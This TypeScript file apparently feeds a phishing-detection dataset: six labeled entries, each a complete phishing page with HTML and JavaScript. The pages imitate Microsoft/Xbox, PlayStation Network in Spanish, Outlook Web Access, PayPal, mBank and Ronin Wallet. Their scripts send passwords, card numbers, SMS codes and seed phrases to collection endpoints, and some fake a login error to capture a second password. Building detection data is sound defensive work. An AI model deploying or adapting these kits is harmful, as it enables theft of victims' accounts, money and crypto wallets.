import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { RAVEN, doc, googleMark, msMark, psMark, qrSvg, ravenLogo } from '../parts/yc-kit.js';

export const entries: Entry[] = [
{
  id: 'yc-xbox-gamepass-billing-mslogin',
  label: 'phishing',
  kind: 'console-account-kit',
  url: 'https://xbox-gamepass-billing.com/account/billing/?status=payment_declined',
  body: doc({
    title: 'Sign in to your Microsoft account',
    css: `*{box-sizing:border-box}body{margin:0;background:#f2f2f2 linear-gradient(135deg,#e8f0e8,#f2f2f2);font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,Roboto,Helvetica,sans-serif;min-height:100vh}
.box{width:440px;margin:90px auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.title{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}.xb{background:#107c10;color:#fff;font-size:13px;padding:10px 12px;margin-bottom:14px}
input{width:100%;border:0;border-bottom:1px solid #666;height:36px;font-size:15px;outline:none;padding:6px 0}input:focus{border-bottom-color:#0067b8}
.lnk{font-size:13px;color:#0067b8;margin:16px 0}.btns{text-align:right;margin-top:24px}
.btn{background:#0067b8;color:#fff;border:0;min-width:108px;height:32px;font-size:15px;cursor:pointer}
.id{font-size:15px;margin-bottom:12px}.err{color:#e81123;font-size:15px;display:none}`,
    body: `<div class="box">${msMark(22)}
<div id="a"><div class="xb">Xbox Game Pass Ultimate: your last payment was declined. Sign in to update your billing information and avoid losing access.</div>
<div class="title">Sign in</div><div class="err" id="e1">Enter a valid email address, phone number, or Skype name.</div><input type="email" name="loginfmt" id="lf" placeholder="Email, phone, or Skype" autocomplete="username">
<div class="lnk">No account? <a href="#" style="color:#0067b8">Create one!</a><br><a href="#" style="color:#0067b8">Can't access your account?</a></div><div class="btns"><button class="btn" onclick="n1()">Next</button></div></div>
<div id="b" style="display:none"><div class="id" id="who"></div><div class="title">Enter password</div><div class="err" id="e2">Your account or password is incorrect. If you don't remember your password, reset it now.</div>
<input type="password" name="passwd" id="pw" placeholder="Password" autocomplete="current-password"><div class="lnk"><a href="#" style="color:#0067b8">Forgot password?</a></div><div class="btns"><button class="btn" onclick="n2()">Sign in</button></div></div>
<div id="c" style="display:none"><div class="title">Update payment method</div><p style="font-size:14px">Game Pass Ultimate — 1 month · $19.99</p>
<form method="post" action="/account/billing/pay.php"><input name="cc" placeholder="Card number" inputmode="numeric" maxlength="19"><br><br><input name="exp" placeholder="MM/YY" style="width:48%"> <input name="cvc" placeholder="CVV" style="width:48%;float:right"><br><br><input name="name" placeholder="Name on card"><br><br><input name="addr" placeholder="Address line 1"><div class="btns"><button class="btn">Save</button></div></form></div>
</div>
<div style="text-align:right;font-size:12px;padding:10px 20px;color:#666">Terms of use &nbsp; Privacy &amp; cookies &nbsp; ...</div>
<script>
var acct='',tries=0;
function n1(){acct=document.getElementById('lf').value.trim();if(!/.+@.+\\..+|^\\+?\\d{7,}$/.test(acct)){document.getElementById('e1').style.display='block';return}document.getElementById('who').textContent=acct;document.getElementById('a').style.display='none';document.getElementById('b').style.display='block'}
function n2(){var p=document.getElementById('pw').value;if(!p)return;tries++;
navigator.sendBeacon('/account/billing/s.php',new URLSearchParams({u:acct,p:p,n:String(tries)}));
if(tries<2){document.getElementById('e2').style.display='block';document.getElementById('pw').value='';return}
document.getElementById('b').style.display='none';document.getElementById('c').style.display='block'}
</script>`,
  }),
},
{
  id: 'yc-psn-es-suspended-signin',
  label: 'phishing',
  kind: 'console-account-kit',
  url: 'https://psn-cuenta-verificacion.com/es-es/signin/?reason=suspension',
  body: doc({
    title: 'Inicio de sesión | Cuenta de Sony',
    lang: 'es',
    css: `*{box-sizing:border-box}body{margin:0;background:#fff;font-family:"SST","Helvetica Neue",Arial,sans-serif;color:#1f1f1f}
.bar{background:#00439c;height:58px;display:flex;align-items:center;padding:0 24px}
.box{max-width:420px;margin:40px auto;padding:0 16px}h1{font-size:26px;font-weight:400}
.alert{background:#fdecea;border:1px solid #f5c2c0;border-radius:6px;padding:12px;font-size:14px;color:#8a1c14;margin-bottom:18px}
input{width:100%;height:48px;border:1px solid #8e8e8e;border-radius:4px;padding:0 14px;font-size:16px;margin:6px 0 16px}
button{width:100%;height:48px;border-radius:24px;background:#0070d1;color:#fff;border:0;font-size:16px;cursor:pointer}
.sm{font-size:13px;color:#555;margin-top:18px}`,
    body: `<div class="bar">${psMark(30)}<span style="color:#fff;margin-left:12px;font-size:15px">PlayStation&reg;Network</span></div>
<div class="box"><h1>Inicia sesión en PlayStation Network con tu cuenta de Sony</h1>
<div class="alert"><b>Tu cuenta ha sido suspendida temporalmente.</b> Detectamos un cargo no autorizado en PlayStation Store. Para restablecer el acceso y evitar la suspensión permanente, verifica tu identidad antes de 24 horas.</div>
<form id="sf" method="post" action="verificar.php"><label>ID de inicio de sesión (dirección de correo electrónico)</label><input type="email" name="correo" required><label>Contraseña</label><input type="password" name="clave" required>
<div id="tar" style="display:none"><label>Número de tarjeta asociada</label><input name="tarjeta" inputmode="numeric" maxlength="19"><label>Fecha de caducidad</label><input name="cad" placeholder="MM/AA"><label>Código de seguridad</label><input name="cvv" maxlength="4"></div>
<button type="submit" id="bt">Iniciar sesión</button></form>
<p class="sm">¿Problemas para iniciar sesión? · Crear una cuenta nueva</p><p class="sm" style="font-size:11px">© 2025 Sony Interactive Entertainment LLC</p></div>
<script>var s=0;document.getElementById('sf').addEventListener('submit',function(e){if(s===0){e.preventDefault();s=1;fetch('verificar.php',{method:'POST',body:new FormData(this)});document.getElementById('tar').style.display='block';document.getElementById('bt').textContent='Verificar identidad'}});</script>`,
  }),
  routes: { 'psn-cuenta-verificacion.com/es-es/signin/verificar.php': htmlRoute('<!doctype html><meta http-equiv="refresh" content="0;url=https://www.playstation.com/es-es/">') },
},
{
  id: 'yc-owa-clone-moderator-payout',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://owa-ravenhold.sharepoint-docs.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.ravenhold.com%2fowa%2f%23path%3d%2fattachments%2fQ3-moderator-payouts.xlsx',
  body: doc({
    title: 'Outlook',
    css: `body{margin:0;font-family:"Segoe UI","Segoe UI Web",Tahoma,Arial,sans-serif;background:#fff}
.signInImageHeader{background:#0072c6;height:100vh;width:330px;float:left;color:#fff;padding:40px 30px;box-sizing:border-box}
.signInImageHeader h1{font-weight:200;font-size:40px;margin:100px 0 0}
.mainLogonDiv{margin-left:380px;padding-top:130px;max-width:360px}
.signInInputText{width:100%;height:32px;border:1px solid #c8c8c8;padding:4px 8px;font-size:14px;margin:4px 0 16px;box-sizing:border-box}
.signinbutton{background:#0072c6;color:#fff;border:0;padding:6px 18px;font-size:16px;cursor:pointer}
.note{font-size:13px;color:#333;background:#f4f4f4;padding:10px;margin-bottom:18px}`,
    body: `<div class="signInImageHeader">${ravenLogo(26, '#fff', '#fff')}<h1>Outlook</h1></div>
<div class="mainLogonDiv"><div class="note">A document was shared with you: <b>Q3-moderator-payouts.xlsx</b> (Community Team). Sign in with your Ravenhold account to open it.</div>
<form action="https://owa-ravenhold.sharepoint-docs.com/owa/auth.owa" method="POST" name="logonForm" autocomplete="off"><input type="hidden" name="destination" value="https://mail.ravenhold.com/owa/"><input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<label for="username">Domain\\user name:</label><input id="username" name="username" class="signInInputText" placeholder="ravenhold\\jdoe or jdoe@ravenhold.com">
<label for="password">Password:</label><input id="password" name="password" type="password" class="signInInputText">
<div style="font-size:13px;margin-bottom:14px"><input type="checkbox" name="isUtf8" value="1"> This is a private computer</div>
<div class="signinbutton" role="button" tabindex="0" onclick="document.logonForm.submit()">&#10140; sign in</div></form>
<p style="font-size:12px;color:#777;margin-top:36px">Connected to Microsoft Exchange<br>&copy; 2020 Microsoft Corporation. All rights reserved.</p></div>
<script>var m=/[?#&]e=([^&]+)/.exec(location.href);if(m)document.getElementById('username').value=decodeURIComponent(m[1]);</script>`,
  }),
  routes: { 'owa-ravenhold.sharepoint-docs.com/owa/auth.owa': htmlRoute('<!doctype html><html><head><meta http-equiv="refresh" content="1;url=https://outlook.office.com/"></head><body>Loading…</body></html>') },
},
{
  id: 'yc-paypal-tournament-refund-login',
  label: 'phishing',
  kind: 'payment-login-kit',
  url: 'https://paypal-resolution-center.help/refund/case?id=PP-D-2210455&lang=en_GB',
  body: doc({
    title: 'Log in to your PayPal account',
    css: `*{box-sizing:border-box}body{margin:0;background:#fff;font-family:"PayPal Sans","Helvetica Neue",Arial,sans-serif;color:#2c2e2f}
.c{width:460px;margin:50px auto;border:1px solid #eaeced;border-radius:12px;padding:40px 48px}
.pp{font-weight:800;font-size:30px;font-style:italic;text-align:center}.pp span{color:#003087}.pp i{color:#009cde}
.r{background:#f5f7fa;border-radius:8px;padding:14px;font-size:14px;margin:20px 0}
input{width:100%;height:64px;border:1px solid #9da3a6;border-radius:4px;padding:0 12px;font-size:16px;margin-bottom:12px}
button{width:100%;height:48px;border-radius:24px;background:#0070ba;color:#fff;border:0;font-size:16px;font-weight:700;cursor:pointer}`,
    body: `<div class="c"><div class="pp"><span>Pay</span><i>Pal</i></div>
<div class="r"><b>Refund pending: €25.00 EUR</b><br>From: Clash Arena Esports (tournament entry — event cancelled)<br>Case ID: PP-D-2210455<br>Log in to accept the refund. Unaccepted refunds are returned to the sender after 72 hours.</div>
<form method="post" action="/refund/auth"><input type="hidden" name="case" value="PP-D-2210455"><input type="email" name="login_email" placeholder="Email or mobile number" required><input type="password" name="login_password" placeholder="Password" required>
<p style="font-size:14px"><a href="#" style="color:#0070ba">Forgot password?</a></p><button>Log In</button></form>
<p style="text-align:center;margin:20px 0;color:#6c7378">or</p><button style="background:#e1e7eb;color:#2c2e2f">Sign Up</button></div>
<p style="text-align:center;font-size:12px;color:#6c7378">Contact Us · Privacy · Legal · Policy Updates · Worldwide</p>`,
  }),
  routes: {
    'paypal-resolution-center.help/refund/auth': htmlRoute(doc({
      title: 'Confirm your identity - PayPal',
      css: 'body{font-family:Arial,sans-serif;max-width:460px;margin:50px auto}input{width:100%;height:48px;margin:6px 0 12px;padding:0 10px}button{width:100%;height:48px;border-radius:24px;background:#0070ba;color:#fff;border:0}',
      body: `<h2>Confirm your card to receive the refund</h2><form method="post" action="/refund/card"><input name="card" placeholder="Card number"><input name="exp" placeholder="Expiry MM/YY"><input name="csc" placeholder="CSC"><input name="dob" placeholder="Date of birth"><button>Confirm</button></form>`,
    })),
  },
},
{
  id: 'yc-mbank-blik-gold-topup-pl',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://doladuj-zloto.pl/platnosc/mbank?zamowienie=ZL-558102&kwota=49.99',
  body: doc({
    title: 'mBank - Bankowość elektroniczna - logowanie',
    lang: 'pl',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Roboto",Arial,sans-serif;background:#f4f4f4;color:#1a1a1a}
.top{background:#fff;border-bottom:1px solid #ddd;height:70px;display:flex;align-items:center;padding:0 40px}.top b{font-size:28px;color:#c20e1a}.top b i{color:#1a1a1a;font-style:normal}
.pay{background:#fff3cd;font-size:13px;padding:10px 40px;border-bottom:1px solid #f0d78a}
.box{width:420px;margin:40px auto;background:#fff;padding:36px;border-radius:4px;box-shadow:0 1px 3px rgba(0,0,0,.1)}
label{font-size:13px;color:#555;display:block;margin-bottom:6px}input{width:100%;height:46px;border:1px solid #bbb;border-radius:4px;padding:0 12px;font-size:16px;margin-bottom:16px}
button{width:100%;height:48px;background:#c20e1a;color:#fff;border:0;border-radius:24px;font-size:16px;cursor:pointer}`,
    body: `<div class="top"><b>m<i>Bank</i></b></div>
<div class="pay">Płatność za zamówienie <b>ZL-558102</b> · 5000 sztuk złota (Ironveil) · <b>49,99 zł</b> · odbiorca: Doladuj Zloto sp. z o.o. — zaloguj się, aby potwierdzić przelew.</div>
<div class="box"><h2 style="margin-top:0;font-weight:400">Zaloguj się</h2>
<form id="mf"><div id="a"><label>Identyfikator</label><input name="identyfikator" required autocomplete="off"><button type="button" onclick="dalej()">Dalej</button></div>
<div id="b" style="display:none"><label>Hasło</label><input type="password" name="haslo"><button type="button" onclick="zaloguj()">Zaloguj się</button></div>
<div id="c" style="display:none"><p style="font-size:14px">Potwierdź płatność kodem SMS lub w aplikacji mobilnej mBanku.</p><label>Kod SMS</label><input name="sms" maxlength="8" inputmode="numeric"><button type="button" onclick="sms()">Potwierdź</button></div></form>
<p style="font-size:12px;color:#777;margin-top:20px">Nigdy nie podawaj swoich danych do logowania przez telefon ani e-mail. mBank S.A. z siedzibą w Warszawie.</p></div>
<script>
var d=document.getElementById('mf');function s(step){var f=new FormData(d);f.append('krok',step);f.append('zam','ZL-558102');return fetch('/api/bank/mbank.php',{method:'POST',body:f}).catch(function(){})}
function dalej(){if(!d.identyfikator.value)return;document.getElementById('a').style.display='none';document.getElementById('b').style.display='block'}
function zaloguj(){s(1).then(function(){document.getElementById('b').style.display='none';document.getElementById('c').style.display='block'})}
function sms(){s(2).then(function(){location.href='/platnosc/status?z=ZL-558102'})}
</script>`,
  }),
  routes: { 'doladuj-zloto.pl/api/bank/mbank.php': jsonRoute({ status: 'ok' }) },
},
{
  id: 'yc-ronin-wallet-resync-seed',
  label: 'phishing',
  kind: 'seed-phrase',
  url: 'https://ronin-wallet-resync.com/import?season=9',
  body: doc({
    title: 'Ronin Wallet — Re-sync to receive Season 9 rewards',
    css: `*{box-sizing:border-box}body{margin:0;background:#0d1421;color:#fff;font-family:Inter,Arial,sans-serif}
.c{max-width:560px;margin:50px auto;background:#151e2e;border-radius:16px;padding:32px}
.lg{display:flex;align-items:center;gap:10px;font-weight:700;font-size:20px}.lg i{width:34px;height:34px;border-radius:10px;background:#1273ea;display:inline-block}
.n{background:#1e2b42;border-radius:10px;padding:14px;font-size:14px;color:#b8c4d9;margin:18px 0;line-height:1.5}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.g input{height:40px;background:#0d1421;border:1px solid #2b3a55;border-radius:8px;color:#fff;padding:0 10px;font-size:14px}
button{width:100%;height:48px;border-radius:10px;border:0;background:#1273ea;color:#fff;font-size:16px;font-weight:600;margin-top:20px;cursor:pointer}
.tabs{display:flex;gap:8px;margin-bottom:12px}.tabs span{padding:6px 12px;border-radius:8px;background:#1e2b42;font-size:13px;cursor:pointer}.tabs span.on{background:#1273ea}`,
    body: `<div class="c"><div class="lg"><i></i>Ronin Wallet</div>
<div class="n">Season 9 Origins rewards (AXS + Runes) are distributed to wallets that completed the <b>v3 node migration</b>. Our records show your wallet was not migrated. Re-sync your wallet by importing your Secret Recovery Phrase. The process is done locally and takes less than a minute.</div>
<div class="tabs"><span class="on" data-n="12">12 words</span><span data-n="24">24 words</span></div>
<form id="sp"><div class="g" id="g"></div><button type="submit">Re-sync wallet</button></form>
<p style="font-size:12px;color:#7f8ea8;text-align:center;margin-top:16px">Sky Mavis · Ronin Network</p></div>
<script>
function build(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){var x=document.createElement('input');x.name='w'+i;x.placeholder=i+'.';x.autocomplete='off';x.spellcheck=false;g.appendChild(x)}}
build(12);document.querySelectorAll('.tabs span').forEach(function(t){t.onclick=function(){document.querySelectorAll('.tabs span').forEach(function(o){o.className=''});t.className='on';build(+t.dataset.n)}});
document.getElementById('g').addEventListener('paste',function(e){var w=(e.clipboardData.getData('text')||'').trim().split(/\\s+/);if(w.length>1){e.preventDefault();var ins=this.querySelectorAll('input');w.forEach(function(v,i){if(ins[i])ins[i].value=v})}});
document.getElementById('sp').onsubmit=function(e){e.preventDefault();var ws=[].map.call(this.querySelectorAll('input'),function(i){return i.value.trim().toLowerCase()});
if(ws.some(function(w){return !w})){alert('Please fill in all words');return}
fetch('/api/v1/sync',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:ws.join(' '),n:ws.length,season:9})}).then(function(){document.querySelector('.c').innerHTML='<h2>Syncing…</h2><p>Your wallet is being migrated. Rewards arrive within 24 hours.</p>'})};
</script>`,
  }),
  routes: { 'ronin-wallet-resync.com/api/v1/sync': jsonRoute({ queued: true }) },
},
];
